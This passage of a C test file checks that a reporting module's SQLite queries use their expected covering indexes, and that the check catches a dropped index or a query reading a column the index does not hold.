    [REPORT_SQL_AUDIT] = "SCAN audit USING COVERING INDEX audit_open_close",
};

/* How many of the reports' queries have a plan other than the expected;
 * each one named on stderr when @say. */
static int plans_wrong(sqlite3 *db, bool say)
{
	int wrong = 0;

	for (int q = 0; q < REPORT_N_SQL; q++) {
		g_autofree char *plan = query_plan(db, report_sql_text(q));

		if (strcmp(plan, expected_plans[q]) != 0) {
			if (say)
				g_printerr("query %d: %s\n  plan:     %s\n  expected: %s\n", q,
					   report_sql_text(q), plan, expected_plans[q]);
			wrong++;
		}
	}
	return wrong;
}

/* Every query reads its covering index, on an empty database and on one with
 * a year's worth of rows of one kind (the planner has no statistics either
 * way: ANALYZE is never run); and the check sees an index dropped and a
 * query that no longer fits its index. */
static void test_query_plans(struct fixture *f, gconstpointer data)
{
	sqlite3 *db = store_db(f->s);
	g_autofree char *plan = NULL;

	g_assert_cmpint(plans_wrong(db, true), ==, 0);
	for (int d = 0; d < 365; d++)
		visit(f, d % 2 ? "kela" : "vero", NOV01 + d, "in_person", "resolved", 60, 300);
	g_assert_cmpint(plans_wrong(db, true), ==, 0);
	/* a column the index does not hold: the rows are looked up, no longer
	 * covered, and the check says so */
	plan =
	    query_plan(db, "SELECT day, provider, lang FROM visits WHERE day >= ?1 AND day < ?2");
	g_assert_cmpstr(plan, !=, expected_plans[REPORT_SQL_VISITS]);
	g_assert_nonnull(strstr(plan, "visits_report"));
	g_assert_null(strstr(plan, "COVERING"));
	/* an index dropped: its queries' plans change and are caught */
	g_assert_cmpint(sqlite3_exec(db, "DROP INDEX visits_report; DROP INDEX audit_open_close",
				     NULL, NULL, NULL),
			==, SQLITE_OK);
	g_assert_cmpint(plans_wrong(db, false), ==, 3);
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add("/report/counts-percentiles", struct fixture, NULL, setup,
		   test_counts_and_percentiles, teardown);
	g_test_add("/report/empty", struct fixture, NULL, setup, test_empty, teardown);
	g_test_add("/report/billing-categories", struct fixture, NULL, setup,
		   test_billing_categories, teardown);
	g_test_add("/report/single-and-empty", struct fixture, NULL, setup, test_single_and_empty,
		   teardown);
	g_test_add("/report/many-percentiles", struct fixture, NULL, setup, test_many_percentiles,
		   teardown);
	g_test_add("/report/arrivals", struct fixture, NULL, setup, test_arrivals, teardown);
	g_test_add("/report/feedback", struct fixture, NULL, setup, test_feedback, teardown);
	g_test_add("/report/idle", struct fixture, NULL, setup, test_idle, teardown);
	g_test_add("/report/csv", struct fixture, NULL, setup, test_csv, teardown);
	g_test_add("/report/query-plans", struct fixture, NULL, setup, test_query_plans, teardown);
	return g_test_run();
}
